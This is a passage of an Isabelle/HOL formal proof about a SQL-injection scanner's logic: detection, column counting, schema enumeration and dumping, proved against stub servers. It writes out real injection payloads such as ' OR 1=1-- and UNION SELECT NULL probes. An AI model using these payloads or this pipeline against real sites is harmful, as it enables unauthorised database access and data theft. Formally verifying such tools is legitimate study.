                      (if j \<le> k then (fst (searchParams u ! j), v) else searchParams u ! j))))"
proof -
  let ?dp = "DETECTION_PAYLOADS env"
  have first: "snd (testBasicVulnerability env url result scanConfig) =
              Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized (?dp ! k)]\<rparr>)"
    if k: "k < length ?dp" and mk: "matched env u (?dp ! k)" and nj: "\<forall>j<k. \<not> matched env u (?dp ! j)"
    for k
  proof -
    have "?dp ! k \<in> set ?dp" using k by simp
    then have ex: "\<exists>p\<in>set ?dp. matched env u p" using mk by blast
    obtain k0 where k0: "k0 < length ?dp" "matched env u (?dp ! k0)"
      "\<forall>j<k0. \<not> matched env u (?dp ! j)"
      "snd (detection_loop env scanConfig url result ?dp) =
         Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized (?dp ! k0)]\<rparr>)"
      using detection_loop_result[OF assms, of result] ex by auto
    have "\<not> k < k0" using k0(3) mk by blast
    moreover have "\<not> k0 < k" using nj k0(2) by blast
    ultimately have "k0 = k" by simp
    then show ?thesis using k0(4) by (simp add: testBasicVulnerability_def)
  qed
  have none: "snd (testBasicVulnerability env url result scanConfig) = Inr (False, result)"
    if "\<forall>p\<in>set ?dp. \<not> matched env u p"
    using detection_loop_result[OF assms, of result] that by (simp add: testBasicVulnerability_def)
  have logs: "Logged WARN (ErrorTestingPayload (sanitized (?dp ! k)))
              \<in> set (fst (testBasicVulnerability env url result scanConfig))"
    if "k < length ?dp" "failed env u (?dp ! k)" "\<forall>j<k. \<not> matched env u (?dp ! j)" for k
    using detection_loop_logs_failure[OF assms that] by (simp add: testBasicVulnerability_def)
  have shape: "\<forall>v. length (probe_requests u v) = length (searchParams u)
              \<and> (\<forall>k<length (searchParams u). \<forall>j<length (searchParams u).
                    searchParams (probe_requests u v ! k) ! j =
                      (if j \<le> k then (fst (searchParams u ! j), v) else searchParams u ! j))"
    if "distinct (map fst (searchParams u))"
    using probe_requests_shape[OF that] by blast
  show ?thesis
  proof (intro conjI)
    show "\<forall>k<length ?dp. matched env u (?dp ! k) \<and> (\<forall>j<k. \<not> matched env u (?dp ! j)) \<longrightarrow>
            snd (testBasicVulnerability env url result scanConfig) =
              Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized (?dp ! k)]\<rparr>)"
      using first by blast
    show "(\<forall>p\<in>set ?dp. \<not> matched env u p) \<longrightarrow>
            snd (testBasicVulnerability env url result scanConfig) = Inr (False, result)"
      using none by blast
    show "\<forall>k<length ?dp. failed env u (?dp ! k) \<and> (\<forall>j<k. \<not> matched env u (?dp ! j)) \<longrightarrow>
            Logged WARN (ErrorTestingPayload (sanitized (?dp ! k)))
              \<in> set (fst (testBasicVulnerability env url result scanConfig))"
      using logs by blast
    show "distinct (map fst (searchParams u)) \<longrightarrow>
          (\<forall>v. length (probe_requests u v) = length (searchParams u)
              \<and> (\<forall>k<length (searchParams u). \<forall>j<length (searchParams u).
                    searchParams (probe_requests u v ! k) ! j =
                      (if j \<le> k then (fst (searchParams u ! j), v) else searchParams u ! j)))"
      using shape by blast
  qed
qed

text \<open>
  The claim's reading that every request carries the payload in exactly one parameter
  fails for a URL with two parameters: the second request carries it in both.
\<close>

theorem detection_two_parameters_counterexample:
  "testBasicVulnerability silent_env ''http://t.com/list?id=1&cat=2'' initial_result SCAN_CONFIG =
     ([Sent (two_param_url\<lparr>searchParams := [(''id'', ''' OR 1=1--''), (''cat'', ''2'')]\<rparr>),
       Sent (two_param_url\<lparr>searchParams := [(''id'', ''' OR 1=1--''), (''cat'', ''' OR 1=1--'')]\<rparr>)],
      Inr (False, initial_result))"
  by code_simp

lemma flaky_env_requests:
  "probe_requests stub_url ''' OR 1=1--'' =
     [stub_url\<lparr>searchParams := [(''id'', ''' OR 1=1--'')]\<rparr>]"
  "probe_requests stub_url ''' OR 'a'='a'' =
     [stub_url\<lparr>searchParams := [(''id'', ''' OR 'a'='a'')]\<rparr>]"
  by code_simp+

lemma flaky_env_payloads:
  "sanitized (DETECTION_PAYLOADS flaky_env ! 0) = ''' OR 1=1--''"
  "sanitized (DETECTION_PAYLOADS flaky_env ! 1) = ''' OR 'a'='a''"
  by code_simp+

lemma flaky_env_responses:
  "httpGet flaky_env (stub_url\<lparr>searchParams := [(''id'', ''' OR 1=1--'')]\<rparr>) = None"
  "httpGet flaky_env (stub_url\<lparr>searchParams := [(''id'', ''' OR 'a'='a'')]\<rparr>)
     = Some ''You have an error in your SQL syntax''"
  "signature_found ''You have an error in your SQL syntax''"
  by code_simp+

theorem detection_probe_witness:
  "parseURL flaky_env ''http://t.com/item?id=1'' = Some stub_url
   \<and> list_all (\<lambda>p. int (length p) \<le> maxPayloadLength SCAN_CONFIG) (DETECTION_PAYLOADS flaky_env)
   \<and> failed flaky_env stub_url (DETECTION_PAYLOADS flaky_env ! 0)
   \<and> matched flaky_env stub_url (DETECTION_PAYLOADS flaky_env ! 1)
   \<and> snd (testBasicVulnerability flaky_env ''http://t.com/item?id=1'' initial_result SCAN_CONFIG) =
       Inr (True, initial_result\<lparr>successfulPayloads := [''' OR 'a'='a'']\<rparr>)
   \<and> Logged WARN (ErrorTestingPayload ''' OR 1=1--'')
       \<in> set (fst (testBasicVulnerability flaky_env ''http://t.com/item?id=1'' initial_result SCAN_CONFIG))"
proof -
  let ?dp = "DETECTION_PAYLOADS flaky_env"
  have p: "parseURL flaky_env ''http://t.com/item?id=1'' = Some stub_url"
    by (simp add: flaky_env_def stub_parse_def)
  have fit: "list_all (\<lambda>p. int (length p) \<le> maxPayloadLength SCAN_CONFIG) ?dp"
    by (simp add: flaky_env_def SCAN_CONFIG_def)
  then have fit': "\<forall>p\<in>set ?dp. int (length p) \<le> maxPayloadLength SCAN_CONFIG"
    by (simp add: list_all_iff)
  have f0: "failed flaky_env stub_url (?dp ! 0)"
    unfolding failed_def flaky_env_payloads flaky_env_requests
    by (simp add: flaky_env_responses probe_fails_Cons)
  have n0: "\<not> matched flaky_env stub_url (?dp ! 0)"
    unfolding matched_def flaky_env_payloads flaky_env_requests
    by (simp add: flaky_env_responses probe_stops_Cons)
  have m1: "matched flaky_env stub_url (?dp ! 1)"
    unfolding matched_def flaky_env_payloads flaky_env_requests
    by (simp add: flaky_env_responses probe_stops_Cons probe_stops_Nil)
  have len: "length ?dp = 2" by (simp add: flaky_env_def)
  note t = detection_probe[OF p fit', of initial_result]
  have r: "snd (testBasicVulnerability flaky_env ''http://t.com/item?id=1'' initial_result SCAN_CONFIG) =
       Inr (True, initial_result\<lparr>successfulPayloads :=
              successfulPayloads initial_result @ [sanitized (?dp ! 1)]\<rparr>)"
    using t[THEN conjunct1, rule_format, of 1] m1 n0 len by (simp add: less_Suc_eq)
  have l: "Logged WARN (ErrorTestingPayload (sanitized (?dp ! 0)))
       \<in> set (fst (testBasicVulnerability flaky_env ''http://t.com/item?id=1'' initial_result SCAN_CONFIG))"
    using t[THEN conjunct2, THEN conjunct2, THEN conjunct1, rule_format, of 0] f0 len by simp
  show ?thesis
    using p fit f0 m1 r l unfolding flaky_env_payloads by (simp add: initial_result_def)
qed

section \<open>Growth of the result\<close>





























section \<open>Sanitized payloads\<close>









lemma sent_ok_requests:
  assumes "\<forall>r\<in>set reqs. carried u m r" and "\<forall>r. Sent r \<in> set ev \<longrightarrow> r \<in> set reqs"
  shows "sent_ok u m ev"
  using assms by (auto simp add: sent_ok_def)
































section \<open>End-to-end scan\<close>

lemma payload_constants:
  "sanitizePayload (JString (schemaPayload 2)) 1000 = Inr (schemaPayload 2)"
  "sanitizePayload (JString (tablePayload 2 ''mydb'')) 1000 = Inr (tablePayload 2 ''mydb'')"
  "extractListFromResponse ''mydb::'' = [''mydb'']"
  "\<not> str_includes ''mydb'' ''information_schema''"
  "\<not> str_includes ''mydb'' ''mysql''"
  "list_all (\<lambda>kp. int (length (snd kp)) \<le> 1000) (systemInfoPayloads 2)"
  by code_simp+

lemma info_requests_keeps:
  "info_requests get key reqs result = (ev, result', e)
   \<Longrightarrow> result' = result\<lparr>databaseInfo := databaseInfo result'\<rparr>"
proof (induction reqs arbitrary: result ev)
  case Nil
  then show ?case by simp
next
  case (Cons r rs)
  show ?case
  proof (cases "get r")
    case None
    then show ?thesis using Cons.prems by simp
  next
    case (Some body)
    define result1 where "result1 = (case extractDataFromResponse body of
                            None \<Rightarrow> result
                          | Some data \<Rightarrow>
                              if data \<noteq> []
                              then result\<lparr>databaseInfo := set_info key data (databaseInfo result)\<rparr>
                              else result)"
    have k1: "result1 = result\<lparr>databaseInfo := databaseInfo result1\<rparr>"
      by (simp add: result1_def split: option.splits)
    obtain ev0 where "info_requests get key rs result1 = (ev0, result', e)"
      using Cons.prems Some by (auto simp add: result1_def Let_def split: prod.splits)
    then have "result' = result1\<lparr>databaseInfo := databaseInfo result'\<rparr>" by (rule Cons.IH)
    then show ?thesis using k1 by (metis sqli_result.update_convs(6) sqli_result.surjective)
  qed
qed

lemma info_loop_keeps:
  assumes "parseURL env url = Some u"
    and "\<forall>kp\<in>set ps. int (length (snd kp)) \<le> maxPayloadLength scanConfig"
  shows "\<exists>result'. snd (info_loop env scanConfig url result ps) = Inr result'
           \<and> result' = result\<lparr>databaseInfo := databaseInfo result'\<rparr>"
  using assms(2)
proof (induction ps arbitrary: result)
  case Nil
  then show ?case by simp
next
  case (Cons kp rest)
  obtain key p where kp: "kp = (key, p)" by (cases kp)
  have san: "sanitizePayload (JString p) (maxPayloadLength scanConfig) = Inr (sanitized p)"
    using Cons.prems kp by (simp add: sanitizePayload_string)
  obtain ev1 result1 e where r1:
    "info_requests (httpGet env) key (probe_requests u (sanitized p)) result = (ev1, result1, e)"
    by (cases "info_requests (httpGet env) key (probe_requests u (sanitized p)) result") auto
  have k1: "result1 = result\<lparr>databaseInfo := databaseInfo result1\<rparr>"
    using r1 by (rule info_requests_keeps)
  obtain result' where r': "snd (info_loop env scanConfig url result1 rest) = Inr result'"
    and k': "result' = result1\<lparr>databaseInfo := databaseInfo result'\<rparr>"
    using Cons.IH[of result1] Cons.prems by auto
  have "snd (info_loop env scanConfig url result (kp # rest)) = Inr result'"
    using kp san assms(1) r1 r' by (simp add: split_beta)
  moreover have "result' = result\<lparr>databaseInfo := databaseInfo result'\<rparr>"
    using k1 k' by (metis sqli_result.update_convs(6) sqli_result.surjective)
  ultimately show ?case by blast
qed

lemma extractSystemInfo_keeps:
  assumes "parseURL env url = Some u"
  shows "\<exists>ev result'. extractSystemInfo env url 2 result SCAN_CONFIG = (ev, Inr result')
           \<and> result' = result\<lparr>databaseInfo := databaseInfo result'\<rparr>"
proof -
  have fit: "\<forall>kp\<in>set (systemInfoPayloads 2). int (length (snd kp)) \<le> maxPayloadLength SCAN_CONFIG"
    using payload_constants(6) by (simp add: list_all_iff SCAN_CONFIG_def)
  obtain result' where "snd (info_loop env SCAN_CONFIG url result (systemInfoPayloads 2)) = Inr result'"
    and "result' = result\<lparr>databaseInfo := databaseInfo result'\<rparr>"
    using info_loop_keeps[OF assms fit] by blast
  then show ?thesis
    by (auto simp add: extractSystemInfo_def split_beta)
qed

lemma mydb_kept:
  "filter (\<lambda>schema. \<not> str_includes schema ''information_schema'' \<and> \<not> str_includes schema ''mysql'')
     [''mydb''] = [''mydb'']"
  by code_simp

lemma add_schemas_mydb:
  "add_schemas [''mydb''] result = result\<lparr>databases := set_add ''mydb'' (databases result)\<rparr>"
  by (simp only: add_schemas_def mydb_kept foldl.simps)

lemma schema_requests_mydb:
  assumes "\<forall>r\<in>set reqs. get r = Some ''mydb::''"
  shows "\<exists>ev. schema_requests get reqs result =
            (ev, (if reqs = [] then result
                  else result\<lparr>databases := set_add ''mydb'' (databases result)\<rparr>), Finished)"
  using assms
proof (induction reqs arbitrary: result)
  case Nil
  then show ?case by simp
next
  case (Cons r rs)
  let ?r1 = "result\<lparr>databases := set_add ''mydb'' (databases result)\<rparr>"
  have g: "get r = Some ''mydb::''" using Cons.prems by simp
  obtain ev where rec: "schema_requests get rs ?r1 =
            (ev, (if rs = [] then ?r1 else ?r1\<lparr>databases := set_add ''mydb'' (databases ?r1)\<rparr>), Finished)"
    using Cons.IH[of ?r1] Cons.prems by auto
  have idem: "set_add ''mydb'' (set_add ''mydb'' (databases result)) = set_add ''mydb'' (databases result)"
    by (simp add: set_add_def)
  show ?case using g rec idem
    by (simp add: payload_constants(3) add_schemas_mydb)
qed

lemma extractDatabaseSchemas_mydb:
  assumes "parseURL env url = Some u" and "searchParams u \<noteq> []"
    and "\<forall>r\<in>set (probe_requests u (schemaPayload 2)). httpGet env r = Some ''mydb::''"
  shows "\<exists>ev. extractDatabaseSchemas env url 2 result SCAN_CONFIG =
           (ev, Inr (result\<lparr>databases := set_add ''mydb'' (databases result)\<rparr>))"
proof -
  have ne: "probe_requests u (schemaPayload 2) \<noteq> []"
    using assms(2) by (rule probe_requests_nonempty)
  obtain ev where "schema_requests (httpGet env) (probe_requests u (schemaPayload 2)) result =
            (ev, result\<lparr>databases := set_add ''mydb'' (databases result)\<rparr>, Finished)"
    using schema_requests_mydb[OF assms(3), of result] ne by auto
  then show ?thesis using assms(1)
    by (simp add: extractDatabaseSchemas_def SCAN_CONFIG_def payload_constants)
qed

lemma structure_loop_no_tables:
  "\<forall>ps'\<in>set (param_loop payload (searchParams testUrl) i).
      (case get (testUrl\<lparr>searchParams := ps'\<rparr>) of
         None \<Rightarrow> True
       | Some body \<Rightarrow> extractListFromResponse body = [])
   \<Longrightarrow> fst (snd (structure_loop get scanConfig columnCount dbName payload testUrl i result)) = result"
proof (induction get scanConfig columnCount dbName payload testUrl i result
    rule: structure_loop.induct)
  case (1 get scanConfig columnCount dbName payload testUrl i result)
  show ?case
  proof (cases "i < length (searchParams testUrl)")
    case False
    then show ?thesis by (subst structure_loop.simps) simp
  next
    case True
    define param where "param = fst (searchParams testUrl ! i)"
    define testUrl1 where
      "testUrl1 = testUrl\<lparr>searchParams := set_param param payload (searchParams testUrl)\<rparr>"
    have pl: "param_loop payload (searchParams testUrl) i =
        searchParams testUrl1 # param_loop payload (searchParams testUrl1) (Suc i)"
      using True by (simp add: param_loop_step testUrl1_def param_def)
    have same: "testUrl\<lparr>searchParams := searchParams testUrl1\<rparr> = testUrl1"
      by (simp add: testUrl1_def)
    have h1: "case get testUrl1 of None \<Rightarrow> True | Some body \<Rightarrow> extractListFromResponse body = []"
      using "1.prems" pl same by simp
    have h2: "\<forall>ps'\<in>set (param_loop payload (searchParams testUrl1) (Suc i)).
      (case get (testUrl1\<lparr>searchParams := ps'\<rparr>) of
         None \<Rightarrow> True
       | Some body \<Rightarrow> extractListFromResponse body = [])"
      using "1.prems" pl by (simp add: testUrl1_def)
    show ?thesis
    proof (cases "get testUrl1")
      case None
      then show ?thesis using True
        by (subst structure_loop.simps)
          (simp add: Let_def param_def[symmetric] testUrl1_def[symmetric])
    next
      case (Some body)
      then have nil: "extractListFromResponse body = []" using h1 by simp
      have ct: "column_tasks get scanConfig columnCount dbName param
                        (extractListFromResponse body) testUrl1 result = ([], result, Inr testUrl1)"
        using nil by simp
      have "fst (snd (structure_loop get scanConfig columnCount dbName payload testUrl1 (Suc i) result))
              = result"
        using "1.IH"[OF True param_def testUrl1_def Some ct[symmetric] refl refl h2] .
      then show ?thesis using True Some ct
        by (subst structure_loop.simps)
          (simp add: Let_def split_beta param_def[symmetric] testUrl1_def[symmetric])
    qed
  qed
qed

lemma extractDatabaseStructure_no_tables:
  assumes "parseURL env url = Some u"
    and "\<forall>r\<in>set (probe_requests u (tablePayload 2 ''mydb'')).
           (case httpGet env r of None \<Rightarrow> True | Some body \<Rightarrow> extractListFromResponse body = [])"
  shows "snd (extractDatabaseStructure env url 2 ''mydb'' result SCAN_CONFIG) = Inr result"
proof -
  have "\<forall>ps'\<in>set (param_loop (tablePayload 2 ''mydb'') (searchParams u) 0).
      (case httpGet env (u\<lparr>searchParams := ps'\<rparr>) of
         None \<Rightarrow> True
       | Some body \<Rightarrow> extractListFromResponse body = [])"
    using assms(2) by (simp add: probe_requests_def)
  then have "fst (snd (structure_loop (httpGet env) SCAN_CONFIG 2 ''mydb'' (tablePayload 2 ''mydb'') u 0 result))
      = result"
    by (rule structure_loop_no_tables)
  then show ?thesis using assms(1)
    by (simp add: extractDatabaseStructure_def SCAN_CONFIG_def payload_constants split_beta)
qed

lemma detection_first:
  assumes "parseURL env url = Some u" and "searchParams u \<noteq> []"
    and "DETECTION_PAYLOADS env = d # ds"
    and "int (length d) \<le> maxPayloadLength scanConfig"
    and "\<forall>r\<in>set (probe_requests u (sanitized d)).
           \<exists>b. httpGet env r = Some b \<and> signature_match (toLowerCase b)"
  shows "snd (testBasicVulnerability env url result scanConfig) =
           Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized d]\<rparr>)"
proof -
  have san: "sanitizePayload (JString d) (maxPayloadLength scanConfig) = Inr (sanitized d)"
    using assms(4) by (simp add: sanitizePayload_string)
  have "probe_stops signature_found (httpGet env) (probe_requests u (sanitized d))"
    using probe_stops_first[OF probe_requests_nonempty[OF assms(2)], of "sanitized d" "httpGet env"
        signature_found] assms(5)
    by (simp add: signature_found_def)
  then have "snd (detection_requests (httpGet env) (probe_requests u (sanitized d))) = Returned"
    by (simp add: detection_requests_Returned)
  then show ?thesis using san assms(1,3)
    by (simp add: testBasicVulnerability_def split_beta)
qed

lemma column_second:
  assumes "parseURL env url = Some u" and "searchParams u \<noteq> []"
    and "COLUMN_PAYLOADS env = c1 # c2 # cs"
    and "int (length c1) \<le> maxPayloadLength scanConfig"
    and "int (length c2) \<le> maxPayloadLength scanConfig"
    and "\<forall>r\<in>set (probe_requests u (sanitized c1)).
           \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''"
    and "\<forall>r\<in>set (probe_requests u (sanitized c2)).
           \<exists>b. httpGet env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
  shows "snd (findColumnCount env url scanConfig) = Inr 2"
proof -
  have san: "sanitizePayload (JString c1) (maxPayloadLength scanConfig) = Inr (sanitized c1)"
    "sanitizePayload (JString c2) (maxPayloadLength scanConfig) = Inr (sanitized c2)"
    using assms(4,5) by (simp_all add: sanitizePayload_string)
  have n1: "snd (column_requests (httpGet env) (probe_requests u (sanitized c1))) \<noteq> Returned"
    using probe_clean_all_error[OF assms(6)] by (simp add: column_requests_Returned)
  have a2: "snd (column_requests (httpGet env) (probe_requests u (sanitized c2))) = Returned"
    using probe_clean_first[OF probe_requests_nonempty[OF assms(2)] assms(7)]
    by (simp add: column_requests_Returned)
  have "snd (column_loop env scanConfig url 1 (c2 # cs)) = Inr 2"
    using san(2) assms(1) a2 by (simp add: split_beta)
  then have "snd (column_loop env scanConfig url 0 (c1 # c2 # cs)) = Inr 2"
    using san(1) assms(1) n1
    by (cases "snd (column_requests (httpGet env) (probe_requests u (sanitized c1)))")
      (simp_all add: split_beta)
  then show ?thesis using assms(3) by (simp add: findColumnCount_def)
qed

text \<open>
  Claim C1, as amended. Take a valid URL with at least one query parameter, a transport that
  answers the requests of the first detection payload with an error signature, the
  requests of the one-column probe with a body containing \<open>error\<close>, the requests of the
  two-column probe with a body free of \<open>error\<close>, the schema enumeration requests (built
  for two columns) with \<open>mydb::\<close>, and lists no table for \<open>mydb\<close>; the payloads fit
  \<open>maxPayloadLength\<close> and both result files get written. Then \<open>testSQLInjection\<close> returns
  a result that is vulnerable, whose databases are exactly \<open>mydb\<close> and whose successful
  payloads are the sanitized detection payload. The column count 2 is what
  \<open>findColumnCount\<close> returns and what the scan logs; it is not part of the returned
  result, whose serialized form has no \<open>columnCount\<close> property.
\<close>

theorem end_to_end:
  assumes parse: "parseURL env url = Some u" and params: "searchParams u \<noteq> []"
    and dp: "DETECTION_PAYLOADS env = d # ds" and dfit: "int (length d) \<le> 1000"
    and cp: "COLUMN_PAYLOADS env = c1 # c2 # cs"
    and cfit: "int (length c1) \<le> 1000" "int (length c2) \<le> 1000"
    and detect: "\<forall>r\<in>set (probe_requests u (sanitized d)).
                   \<exists>b. httpGet env r = Some b \<and> signature_match (toLowerCase b)"
    and one: "\<forall>r\<in>set (probe_requests u (sanitized c1)).
                   \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''"
    and two: "\<forall>r\<in>set (probe_requests u (sanitized c2)).
                   \<exists>b. httpGet env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
    and schema: "\<forall>r\<in>set (probe_requests u (schemaPayload 2)). httpGet env r = Some ''mydb::''"
    and no_tables: "\<forall>r\<in>set (probe_requests u (tablePayload 2 ''mydb'')).
                   (case httpGet env r of
                      None \<Rightarrow> True
                    | Some body \<Rightarrow> extractListFromResponse body = [])"
    and writes: "writeJSON_ok env" "writeSQL_ok env"
  shows "\<exists>ev result. testSQLInjection env url SCAN_CONFIG = (ev, Inr result)
           \<and> vulnerable result \<and> databases result = [''mydb'']
           \<and> successfulPayloads result = [sanitized d]
           \<and> snd (findColumnCount env url SCAN_CONFIG) = Inr 2
           \<and> Logged INFO (FoundColumns 2) \<in> set ev
           \<and> map_of (serializedResult result) ''columnCount'' = None"
proof -
  have m: "maxPayloadLength SCAN_CONFIG = 1000" by (simp add: SCAN_CONFIG_def)
  have valid: "validateUrl (parseURL env) url" using parse by (simp add: validateUrl_def)
  let ?r1 = "initial_result\<lparr>successfulPayloads := [sanitized d]\<rparr>"
  let ?r2 = "?r1\<lparr>vulnerable := True\<rparr>"
  obtain ev1 where s1: "testBasicVulnerability env url initial_result SCAN_CONFIG = (ev1, Inr (True, ?r1))"
    using detection_first[OF parse params dp, of SCAN_CONFIG initial_result] dfit detect m
    by (cases "testBasicVulnerability env url initial_result SCAN_CONFIG")
      (simp add: initial_result_def)
  have c2: "snd (findColumnCount env url SCAN_CONFIG) = Inr 2"
    using column_second[OF parse params cp _ _ one two, of SCAN_CONFIG] cfit m by simp
  then obtain ev2 where s2: "findColumnCount env url SCAN_CONFIG = (ev2, Inr 2)"
    by (cases "findColumnCount env url SCAN_CONFIG") simp
  obtain ev3 r3 where s3: "extractSystemInfo env url 2 ?r2 SCAN_CONFIG = (ev3, Inr r3)"
    and k3: "r3 = ?r2\<lparr>databaseInfo := databaseInfo r3\<rparr>"
    using extractSystemInfo_keeps[OF parse, of ?r2] by blast
  have d3: "databases r3 = []" "tables r3 = []" "vulnerable r3" "successfulPayloads r3 = [sanitized d]"
    by (subst k3, simp add: initial_result_def)+
  let ?r4 = "r3\<lparr>databases := set_add ''mydb'' (databases r3)\<rparr>"
  obtain ev4 where s4: "extractDatabaseSchemas env url 2 r3 SCAN_CONFIG = (ev4, Inr ?r4)"
    using extractDatabaseSchemas_mydb[OF parse params schema, of r3] by blast
  have d4: "databases ?r4 = [''mydb'']" using d3 by (simp add: set_add_def)
  obtain ev5 where s5: "extractDatabaseStructure env url 2 ''mydb'' ?r4 SCAN_CONFIG = (ev5, Inr ?r4)"
    using extractDatabaseStructure_no_tables[OF parse no_tables, of ?r4]
    by (cases "extractDatabaseStructure env url 2 ''mydb'' ?r4 SCAN_CONFIG") simp
  have s5': "structure_all env url 2 SCAN_CONFIG (databases ?r4) ?r4 = (ev5, Inr ?r4)"
    unfolding d4 using s5 by simp
  have s6: "dumpAllTables env url 2 ?r4 SCAN_CONFIG = ([Logged INFO AttemptingDump], Inr ?r4)"
    using d3 by (simp add: dumpAllTables_def)
  have s7: "saveResults env = ([], Inr ())" using writes by (simp add: saveResults_def)
  have scan: "comprehensive_scan env url 2 ?r2 SCAN_CONFIG =
      (ev3 @ ev4 @ ev5 @ [Logged INFO AttemptingDump] @ [], Inr ?r4)"
    using s3 s4 s5' s6 s7 by (simp add: comprehensive_scan_def)
  have run: "testSQLInjection env url SCAN_CONFIG =
      (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2
         @ Logged INFO (FoundColumns 2) # (ev3 @ ev4 @ ev5 @ [Logged INFO AttemptingDump] @ []),
       Inr ?r4)"
    using valid s1 s2 scan by (simp add: testSQLInjection_def)
  have "vulnerable ?r4" "databases ?r4 = [''mydb'']" "successfulPayloads ?r4 = [sanitized d]"
    using d3 d4 by simp_all
  moreover have "map_of (serializedResult ?r4) ''columnCount'' = None"
    by (simp add: serializedResult_def)
  ultimately show ?thesis using run c2 by auto
qed

theorem result_without_columnCount_counterexample:
  "snd (testSQLInjection mydb_env ''http://t.com/item?id=1'' SCAN_CONFIG) = Inr mydb_result
   \<and> snd (findColumnCount mydb_env ''http://t.com/item?id=1'' SCAN_CONFIG) = Inr 2
   \<and> map fst (serializedResult mydb_result) =
        [''vulnerable'', ''columns'', ''tables'', ''databases'', ''tableData'', ''databaseInfo'',
         ''successfulPayloads'']
   \<and> map_of (serializedResult mydb_result) ''columnCount'' = None"
  by code_simp

lemma mydb_requests:
  "probe_requests stub_url (sanitized ''' OR 1=1--'') =
     [stub_url\<lparr>searchParams := [(''id'', ''' OR 1=1--'')]\<rparr>]"
  "probe_requests stub_url (sanitized ''' UNION ALL SELECT NULL--'') =
     [stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL--'')]\<rparr>]"
  "probe_requests stub_url (sanitized ''' UNION ALL SELECT NULL,NULL--'') =
     [stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL--'')]\<rparr>]"
  "probe_requests stub_url (schemaPayload 2) =
     [stub_url\<lparr>searchParams := [(''id'', schemaPayload 2)]\<rparr>]"
  "probe_requests stub_url (tablePayload 2 ''mydb'') =
     [stub_url\<lparr>searchParams := [(''id'', tablePayload 2 ''mydb'')]\<rparr>]"
  by code_simp+

lemma mydb_responses:
  "mydb_get (stub_url\<lparr>searchParams := [(''id'', ''' OR 1=1--'')]\<rparr>)
     = Some ''You have an error in your SQL syntax''"
  "mydb_get (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL--'')]\<rparr>)
     = Some ''SQL error''"
  "mydb_get (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL--'')]\<rparr>)
     = Some ''<html>2 items</html>''"
  "mydb_get (stub_url\<lparr>searchParams := [(''id'', schemaPayload 2)]\<rparr>) = Some ''mydb::''"
  "mydb_get (stub_url\<lparr>searchParams := [(''id'', tablePayload 2 ''mydb'')]\<rparr>) = Some ''SQL error''"
  "signature_match (toLowerCase ''You have an error in your SQL syntax'')"
  "str_includes (toLowerCase ''SQL error'') ''error''"
  "\<not> str_includes (toLowerCase ''<html>2 items</html>'') ''error''"
  "extractListFromResponse ''SQL error'' = []"
  "sanitized ''' OR 1=1--'' = ''' OR 1=1--''"
  by code_simp+

theorem end_to_end_witness:
  "parseURL mydb_env ''http://t.com/item?id=1'' = Some stub_url
   \<and> httpGet mydb_env (stub_url\<lparr>searchParams := [(''id'', ''' OR 1=1--'')]\<rparr>)
        = Some ''You have an error in your SQL syntax''
   \<and> httpGet mydb_env (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL--'')]\<rparr>)
        = Some ''<html>2 items</html>''
   \<and> httpGet mydb_env (stub_url\<lparr>searchParams := [(''id'', schemaPayload 2)]\<rparr>) = Some ''mydb::''
   \<and> (\<exists>ev result. testSQLInjection mydb_env ''http://t.com/item?id=1'' SCAN_CONFIG = (ev, Inr result)
           \<and> vulnerable result \<and> databases result = [''mydb'']
           \<and> successfulPayloads result = [''' OR 1=1--'']
           \<and> snd (findColumnCount mydb_env ''http://t.com/item?id=1'' SCAN_CONFIG) = Inr 2
           \<and> Logged INFO (FoundColumns 2) \<in> set ev
           \<and> map_of (serializedResult result) ''columnCount'' = None)"
proof -
  have parse: "parseURL mydb_env ''http://t.com/item?id=1'' = Some stub_url"
    by (simp add: mydb_env_def stub_parse_def)
  have params: "searchParams stub_url \<noteq> []" by (simp add: stub_url_def)
  have dp: "DETECTION_PAYLOADS mydb_env = ''' OR 1=1--'' # []"
    and cp: "COLUMN_PAYLOADS mydb_env = ''' UNION ALL SELECT NULL--'' # ''' UNION ALL SELECT NULL,NULL--'' # []"
    and get: "httpGet mydb_env = mydb_get"
    and writes: "writeJSON_ok mydb_env" "writeSQL_ok mydb_env"
    by (simp_all add: mydb_env_def)
  have fit: "int (length ''' OR 1=1--'') \<le> 1000" "int (length ''' UNION ALL SELECT NULL--'') \<le> 1000"
    "int (length ''' UNION ALL SELECT NULL,NULL--'') \<le> 1000"
    by simp_all
  have detect: "\<forall>r\<in>set (probe_requests stub_url (sanitized ''' OR 1=1--'')).
                   \<exists>b. httpGet mydb_env r = Some b \<and> signature_match (toLowerCase b)"
    unfolding mydb_requests get by (simp add: mydb_responses)
  have one: "\<forall>r\<in>set (probe_requests stub_url (sanitized ''' UNION ALL SELECT NULL--'')).
                   \<exists>b. httpGet mydb_env r = Some b \<and> str_includes (toLowerCase b) ''error''"
    unfolding mydb_requests get by (simp add: mydb_responses)
  have two: "\<forall>r\<in>set (probe_requests stub_url (sanitized ''' UNION ALL SELECT NULL,NULL--'')).
                   \<exists>b. httpGet mydb_env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
    unfolding mydb_requests get by (simp add: mydb_responses)
  have schema: "\<forall>r\<in>set (probe_requests stub_url (schemaPayload 2)). httpGet mydb_env r = Some ''mydb::''"
    unfolding mydb_requests get by (simp add: mydb_responses)
  have no_tables: "\<forall>r\<in>set (probe_requests stub_url (tablePayload 2 ''mydb'')).
                   (case httpGet mydb_env r of
                      None \<Rightarrow> True
                    | Some body \<Rightarrow> extractListFromResponse body = [])"
    unfolding mydb_requests get by (simp add: mydb_responses)
  note t = end_to_end[OF parse params dp fit(1) cp fit(2) fit(3) detect one two schema no_tables writes]
  show ?thesis
    using t parse unfolding get mydb_responses(10) by (simp add: mydb_responses)
qed

end
